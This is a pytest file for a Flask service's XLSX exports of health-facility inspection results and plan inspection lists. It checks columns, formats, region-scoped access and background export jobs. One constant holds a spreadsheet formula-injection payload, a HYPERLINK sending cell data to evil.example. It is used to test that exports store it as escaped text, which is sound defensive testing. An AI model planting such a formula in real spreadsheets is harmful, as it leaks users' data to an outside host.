"""The exports: a region's final results for a period (GET /api/exports/results/{region}/{period}.xlsx,
or a background job) and a plan's inspection list (GET /api/plans/{id}/inspections.xlsx), read
back with openpyxl: their rows, text that stays text, numbers that stay numbers, the chapter shares
the report's own snapshot holds, the region they are scoped to, an empty period, the job path.

Who may call them, in which region, is also the access matrix's (test_access_matrix.py).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import hashlib
import io
import json
import secrets
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select

from server import registry
from server.db.models import Evidence, Facility, Inspection, Report
from server.domain import exports as domain
from server.domain.checklist import NOT_APPLICABLE, NOT_MET
from server.extensions import db
from server.services import checklists
from tests.api.test_access_matrix import DENIALS
from tests.api.test_plans import create, plan_body
from tests.api.test_workflow import act
from tests.api.world import World, change, complete_changes
from tests.services.test_payouts import approved, qs_rules

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
QS = ("qs-2023-sample", 1)
VC = ("vc-2022-sample", 1)
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
FINAL = (
    ("inspector", "submit"),
    ("county_reviewer", "start_county_review"),
    ("county_reviewer", "county_approve"),
    ("city_reviewer", "start_city_review"),
    ("city_reviewer", "approve"),
)


def results_url(region: str, period: str) -> str:
    return f"/api/exports/results/{region}/{period}.xlsx"


def workbook(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def table(ws: Any) -> tuple[list[str], list[list[Any]]]:
    """A sheet's header (row 5) and data rows as cells."""
    rows = list(ws.iter_rows(min_row=5))
    return [c.value for c in rows[0]], [list(r) for r in rows[1:]]


def by_header(header: list[str], row: list[Any]) -> dict[str, Any]:
    return dict(zip(header, row, strict=True))


def stored_photo(inspection_id: int, item_id: str, uploaded_by: int) -> None:
    """A photo of an item whose object is in the evidence store (final approval retains it)."""
    data = f"photo {inspection_id} {item_id} {secrets.token_hex(4)}".encode()
    digest = hashlib.sha256(data).hexdigest()
    key = f"evidence/{inspection_id}/{digest[:16]}.jpg"
    registry.evidence_store().put(key, data, digest, "image/jpeg")
    db.session.add(
        Evidence(
            inspection_id=inspection_id,
            item_id=item_id,
            object_key=key,
            sha256=digest,
            size=len(data),
            content_type="image/jpeg",
            uploaded_by=uploaded_by,
        )
    )
    db.session.flush()


def final_result(
    world: World,
    facility: str,
    checklist: tuple[str, int],
    grades: dict[str, str] | None = None,
    day: str = "2026-11-20",
    best: bool = False,
) -> Inspection:
    """An inspection of `facility` on `checklist` inspected on `day`, every item answered (at its
    first level, C; or its highest with `best`; unless `grades` says otherwise; documents in
    force), finally approved through the API."""
    place = world.facilities[facility]
    place.facts = {**(place.facts or {}), "community_hospital": False} if checklist == QS else place.facts
    db.session.commit()
    inspection = world.inspection(facility, checklist=checklist)
    inspection.inspection_date = dt.date.fromisoformat(day)
    db.session.commit()
    model = checklists.get_checklist(*checklist)
    changes = []
    for item in model.items():
        grade = (grades or {}).get(item.id, item.levels[-1 if best else 0].code)
        dates: dict[str, str] = {}
        if item.validity is not None and grade not in (NOT_MET, NOT_APPLICABLE):
            dates = (
                {"valid_until": "2028-06-30"}
                if item.validity.kind == "valid_until"
                else {"document_date": "2026-01-05"}
            )
        changes.append(change(inspection.id, item.id, grade, **dates))
        for _ in range(item.photos_min):
            stored_photo(inspection.id, item.id, world.users["inspector"].id)
    receipts = world.sync("inspector", changes).json["receipts"]
    assert {r["status"] for r in receipts} == {"applied"}, [r for r in receipts if r["status"] != "applied"][
        :3
    ]
    db.session.commit()
    for who, action in FINAL:
        response = act(world, who, inspection, action)
        assert response.status_code == 200, (action, response.json)
    db.session.expire_all()
    found = db.session.get(Inspection, inspection.id)
    assert found is not None
    return found


def snapshot_score(inspection_id: int) -> tuple[Report, dict[str, Any]]:
    """The inspection's newest report and the score its stored snapshot holds."""
    report = db.session.scalars(
        select(Report).where(Report.inspection_id == inspection_id).order_by(Report.id.desc())
    ).first()
    assert report is not None
    snapshot = json.loads(registry.evidence_store().get(report.snapshot_key))
    return report, snapshot["score"]


def test_the_results_of_a_city_read_back_as_the_reports_say(world: World) -> None:
    qs_rules()
    world.facilities["own2"].name = HOSTILE
    world.facilities["village"].facts = {"tcm_corner": False, "iv_infusion": False}
    db.session.commit()
    # a centre with a failed veto item, a not-applicable item and a chapter of mixed grades
    failing = {"QS-4.7.02": NOT_MET, "QS-2.5.01": NOT_APPLICABLE, "QS-1.3.02": NOT_MET, "QS-1.1.02": "A"}
    centre = final_result(world, "own", QS, failing)
    assert world.call("county_reviewer", "GET", f"/api/inspections/{centre.id}/report").status_code == 200
    # an earlier result of the same facility and family, in the period: the newest one counts
    final_result(world, "own2", QS, day="2026-03-02")
    newest = final_result(world, "own2", QS, day="2026-10-09")
    clinic = final_result(world, "village", VC, {"VC-2.2.01": "partial", "VC-1.1.02": NOT_MET}, best=True)

    response = world.call("admin", "GET", results_url("410200", "2026"))
    assert response.status_code == 200, response.json
    assert response.headers["Content-Type"] == XLSX
    name = "开封市2026年评审结果.xlsx"
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"2026.xlsx\"; filename*=UTF-8''{quote(name)}"
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    book = workbook(response.data)
    assert book.sheetnames == ["汇总", "优质服务基层行（第1版）", "村卫生室标准化建设（第1版）"]

    header, rows = table(book["优质服务基层行（第1版）"])
    model = checklists.get_checklist(*QS)
    chapters = [domain.chapter_header(model, c.id) for c in model.chapters]
    assert chapters[0] == "一、功能任务与资源配置达标率"
    assert header[:11] == [
        "序号",
        "县（市、区）",
        "乡镇（街道）",
        "机构名称",
        "机构类别",
        "统一社会信用代码/执业许可证登记号",
        "评审标准",
        "版本",
        "评审类型",
        "现场评审日期",
        "达标等级",
    ]
    assert header[11:] == [
        *chapters,
        "核心条款达标",
        "一票否决",
        "报告编号",
        "报告数据摘要（SHA-256）",
        "奖补金额（元）",
        "奖补说明",
    ]
    assert len(rows) == 2  # one row per facility: own2's earlier result is left out
    values = [by_header(header, [c.value for c in row]) for row in rows]
    assert [v["机构名称"] for v in values] == ["'" + HOSTILE, "通许县城关镇卫生院"]  # by name
    rows.reverse()
    values.reverse()  # the centre first, then own2
    hostile = rows[1][header.index("机构名称")]
    assert hostile.data_type == "s"  # text, never a formula
    assert values[1]["现场评审日期"] == dt.datetime(2026, 10, 9)

    for inspection, row, cells_ in ((centre, values[0], rows[0]), (newest, values[1], rows[1])):
        report, score = snapshot_score(inspection.id)  # own2's report was rendered by the export
        assert (row["报告编号"], row["报告数据摘要（SHA-256）"]) == (report.number, report.snapshot_sha256)
        assert row["达标等级"] == report.tier_label == score["tier"]["label"]
        for chapter in score["chapters"]:
            at = header.index(domain.chapter_header(model, chapter["id"]))
            share = cells_[at]
            if chapter["applicable"]:
                assert share.value == chapter["at_least"]["C"] / chapter["applicable"]
                assert (share.data_type, share.number_format) == ("n", "0.0%")
            else:
                assert share.value is None  # 社区医院（附加）: nothing applicable to a township centre
        assert cells_[header.index("现场评审日期")].number_format == "yyyy-mm-dd"
        assert row["县（市、区）"] == "通许县" and row["乡镇（街道）"] is None
        assert row["评审标准"] == model.title and row["版本"] == 1
        assert row["评审类型"] == "县级评审"
        facility = db.session.get(Facility, inspection.facility_id)
        assert facility is not None and row["统一社会信用代码/执业许可证登记号"] == facility.uscc
    chapter_one = values[0]["一、功能任务与资源配置达标率"]
    assert 0 < chapter_one < 1  # 1.3.2 failed
    assert values[0]["一票否决"] == "4.7.2"
    assert values[0]["达标等级"] == "未达标"
    assert values[0]["奖补金额（元）"] is None and values[0]["奖补说明"] == "未达标，不予奖补"
    assert values[1]["一票否决"] == "未触发"
    core = sum(1 for i in model.items() if i.core and not i.monitoring)
    assert values[1]["核心条款达标"] == f"{core}/{core}"
    assert values[1]["达标等级"] == "基本标准"
    amount = rows[1][header.index("奖补金额（元）")]
    assert (amount.value, amount.data_type, amount.number_format) == (150_000, "n", "#,##0")
    assert values[1]["奖补说明"] == "补差规则，此前未拨付"

    header, rows = table(book["村卫生室标准化建设（第1版）"])
    vc = checklists.get_checklist(*VC)
    assert header[11:15] == [domain.chapter_header(vc, c.id) for c in vc.chapters]
    assert header[11] == "一、机构设置与房屋得分率"
    row = by_header(header, [c.value for c in rows[0]])
    report, score = snapshot_score(clinic.id)
    for chapter in score["chapters"]:
        points = chapter["points"]
        expected = points["earned"] / points["possible"]
        assert row[domain.chapter_header(vc, chapter["id"])] == pytest.approx(expected, rel=1e-12)
    assert row["县（市、区）"] == "通许县"
    assert row["奖补金额（元）"] is None and row["奖补说明"] == "无适用的奖补标准"  # no village rule
    assert row["统一社会信用代码/执业许可证登记号"] is None  # a clinic without a USCC

    summary = list(book["汇总"].iter_rows(min_row=6, values_only=True))
    assert [row[2:] for row in summary] == [
        ("优质服务基层行（第1版）", "基本标准", 1, 150_000),
        ("优质服务基层行（第1版）", "未达标", 1, 0),
        ("村卫生室标准化建设（第1版）", row_tier := score["tier"]["label"], 1, 0),
        (None, None, 3, 150_000),
    ]
    assert summary[0][:2] == (model.title, 1) and summary[-1][0] == "合计"
    assert row_tier != "未达标"


def test_a_county_gets_only_its_own_rows_and_nobody_another_regions(world: World) -> None:
    approved(world, "own", at=dt.datetime(2026, 11, 10, 2, tzinfo=dt.UTC))
    approved(world, "sibling", at=dt.datetime(2026, 11, 11, 2, tzinfo=dt.UTC))
    approved(world, "other_city", at=dt.datetime(2026, 11, 12, 2, tzinfo=dt.UTC))
    db.session.commit()

    def names(who: str, region: str) -> list[str]:
        response = world.call(who, "GET", results_url(region, "2026Q4"))
        assert response.status_code == 200, response.json
        sheet = workbook(response.data).worksheets[1]
        return [row[3] for row in sheet.iter_rows(min_row=6, values_only=True)]

    assert names("county_reviewer", "410222") == ["通许县城关镇卫生院"]
    assert names("finance", "410200") == ["通许县城关镇卫生院", "兰考县城关镇卫生院"]
    assert names("sibling_county_reviewer", "410225") == ["兰考县城关镇卫生院"]
    for who, region in (
        ("county_reviewer", "410225"),  # the sibling county
        ("county_reviewer", "410200"),  # the city around the county
        ("city_reviewer", "410100"),  # another city
        ("city_reviewer", "410102"),
        ("city_reviewer", "410000"),  # the province around the city
        ("city_reviewer", "410299"),  # inside the city's prefix, but no such region
        ("city_reviewer", "abc"),
    ):
        response = world.call(who, "GET", results_url(region, "2026"))
        assert (response.status_code, response.json) == (404, DENIALS[404]), (who, region)
        job = world.call(who, "POST", "/api/exports/results", {"region_code": region, "period": "2026"})
        if region == "abc":  # not a region code at all: the body is refused as such
            assert job.json["error"]["problems"][0]["pointer"] == "/region_code"
        else:
            assert (job.status_code, job.json) == (404, DENIALS[404]), (who, region)
    for who in ("inspector", "self_assessor"):
        response = world.call(who, "GET", results_url("410222", "2026"))
        assert (response.status_code, response.json) == (403, DENIALS[403])
    assert world.call(None, "GET", results_url("410222", "2026")).status_code == 401


def test_an_empty_period_and_a_bad_period(world: World) -> None:
    approved(world, "own")
    db.session.commit()
    response = world.call("city_reviewer", "GET", results_url("410200", "2025-02"))
    assert response.status_code == 200
    book = workbook(response.data)
    assert book.sheetnames == ["汇总"]
    values = [v for row in book["汇总"].iter_rows(values_only=True) for v in row if v is not None]
    assert values[0] == "开封市2025年2月评审结果"
    assert "该期间没有终审通过的评审结果。" in values
    bad = world.call("city_reviewer", "GET", results_url("410200", "2026Q5"))
    assert (bad.status_code, bad.json["error"]["code"]) == (422, "payouts.invalid_period")
    assert world.call("city_reviewer", "GET", "/api/exports/results/410200/2026.csv").status_code == 404


def test_a_region_too_large_for_a_request_is_exported_by_a_job(world: World, app: Flask) -> None:
    app.config["DABIAO_SETTINGS"] = dataclasses.replace(
        registry.settings(), export_inline_rows=1, jobs_inline=True
    )
    qs_rules()
    approved(world, "own")
    approved(world, "sibling", tier="basic")
    db.session.commit()
    refused = world.call("city_reviewer", "GET", results_url("410200", "2026"))
    assert (refused.status_code, refused.json["error"]) == (
        409,
        {
            "code": "exports.use_job",
            "message": "该地区该期间的评审结果超过 1 条，不能在页面请求中直接导出，请改由后台任务导出",
        },
    )
    assert world.call("city_reviewer", "GET", results_url("410222", "2026")).status_code == 200  # one row

    asked = world.call(
        "city_reviewer", "POST", "/api/exports/results", {"region_code": "410200", "period": "2026"}
    )
    assert asked.status_code == 202, asked.json
    job = asked.json
    assert (job["kind"], job["kind_label"], job["state"]) == ("results_export", "评审结果导出", "succeeded")
    assert job["title"] == "开封市 2026年 评审结果（电子表格）"
    assert job["result"]["filename"] == "开封市2026年评审结果.xlsx"
    assert job["progress"]["done"] == job["progress"]["total"]
    download = world.call("city_reviewer", "GET", f"/api/jobs/{job['id']}/result")
    assert download.status_code == 200
    assert download.headers["Content-Disposition"].endswith(
        f"filename*=UTF-8''{quote('开封市2026年评审结果.xlsx')}"
    )
    sheet = workbook(download.data).worksheets[1]
    assert [row[3] for row in sheet.iter_rows(min_row=6, values_only=True)] == [
        "通许县城关镇卫生院",
        "兰考县城关镇卫生院",
    ]
    # finance of the city sees the job; the county's reviewer does not
    assert world.call("finance", "GET", f"/api/jobs/{job['id']}").status_code == 200
    assert world.call("county_reviewer", "GET", f"/api/jobs/{job['id']}").status_code == 404
    assert any(j["id"] == job["id"] for j in world.call("finance", "GET", "/api/jobs").json["jobs"])


def test_the_routes_are_in_the_openapi_document_as_files(world: World) -> None:
    paths = world.client.get("/api/openapi.json").json["paths"]
    results = paths["/api/exports/results/{region_code}/{period}.xlsx"]["get"]["responses"]
    assert results["200"]["content"][XLSX]["schema"] == {"format": "binary", "type": "string"}
    assert {"401", "403", "404", "409", "422"} <= set(results)
    job = paths["/api/exports/results"]["post"]["responses"]
    assert "202" in job
    plan = paths["/api/plans/{plan_id}/inspections.xlsx"]["get"]["responses"]
    assert plan["200"]["content"][XLSX]["schema"] == {"format": "binary", "type": "string"}
    assert {"401", "403", "404"} <= set(plan)


# --- a plan's inspection list ------------------------------------------------------------------------


def test_a_plans_inspection_list_reads_back_as_the_page_shows_it(world: World) -> None:
    world.facilities["own2"].name = HOSTILE
    db.session.commit()
    body = plan_body(world, {"own": ["inspector", "inspector2"], "own2": ["inspector"]})
    made = create(world, body)
    assert made.status_code == 201, made.json
    plan_id = made.json["plan"]["id"]
    visit = db.session.scalars(
        select(Inspection).where(
            Inspection.plan_id == plan_id, Inspection.facility_id == world.facilities["own"].id
        )
    ).one()
    world.sync("inspector", complete_changes(visit.id))
    for who, action in FINAL:
        assert act(world, who, visit, action).status_code == 200, action
    report = world.call("county_reviewer", "GET", f"/api/inspections/{visit.id}/report")
    assert report.status_code == 200

    response = world.call("county_reviewer", "GET", f"/api/plans/{plan_id}/inspections.xlsx")
    assert response.status_code == 200, response.json
    assert response.headers["Content-Type"] == XLSX
    name = "2026 年通许县优质服务基层行县级评审检查名单.xlsx"
    assert response.headers["Content-Disposition"].endswith(f"filename*=UTF-8''{quote(name)}")
    book = workbook(response.data)
    assert book.sheetnames == ["检查名单"]
    header, rows = table(book["检查名单"])
    assert header == [
        "序号",
        "机构名称",
        "所在地区",
        "机构类别",
        "检查组",
        "计划日期",
        "进度",
        "状态",
        "达标等级",
        "报告编号",
    ]
    values = [by_header(header, [c.value for c in row]) for row in rows]
    page = world.call("county_reviewer", "GET", f"/api/plans/{plan_id}").json["entries"]
    assert [v["机构名称"] for v in values] == ["通许县城关镇卫生院", "'" + HOSTILE]
    assert rows[1][1].data_type == "s"
    assert [v["所在地区"] for v in values] == [e["region_name"] for e in page]
    assert values[0]["检查组"] == "inspector、inspector2" and values[1]["检查组"] == "inspector"
    assert values[0]["计划日期"] == dt.datetime(2026, 12, 10)
    assert rows[0][5].number_format == "yyyy-mm-dd"
    assert (values[0]["进度"], values[0]["状态"]) == ("已通过", "已通过（终审）")
    assert (values[1]["进度"], values[1]["状态"]) == ("未开始", "草稿")
    db.session.expire_all()
    final = db.session.get(Inspection, visit.id)
    assert final is not None and values[0]["达标等级"] == final.final_tier_label
    assert values[0]["报告编号"] == report.headers["X-Report-Number"]
    assert values[1]["达标等级"] is None and values[1]["报告编号"] is None
    assert values[0]["机构类别"] == "乡卫生院"
    assert book["检查名单"]["A1"].value == "2026 年通许县优质服务基层行县级评审　检查名单"

    # the plan's read access: a desk user of the region; nobody outside it
    assert world.call("admin", "GET", f"/api/plans/{plan_id}/inspections.xlsx").status_code == 200
    outside = world.call("sibling_county_reviewer", "GET", f"/api/plans/{plan_id}/inspections.xlsx")
    assert (outside.status_code, outside.json) == (404, DENIALS[404])
    for who in ("inspector", "finance"):
        refused = world.call(who, "GET", f"/api/plans/{plan_id}/inspections.xlsx")
        assert (refused.status_code, refused.json) == (403, DENIALS[403])
    assert world.call("county_reviewer", "GET", "/api/plans/999999/inspections.xlsx").status_code == 404
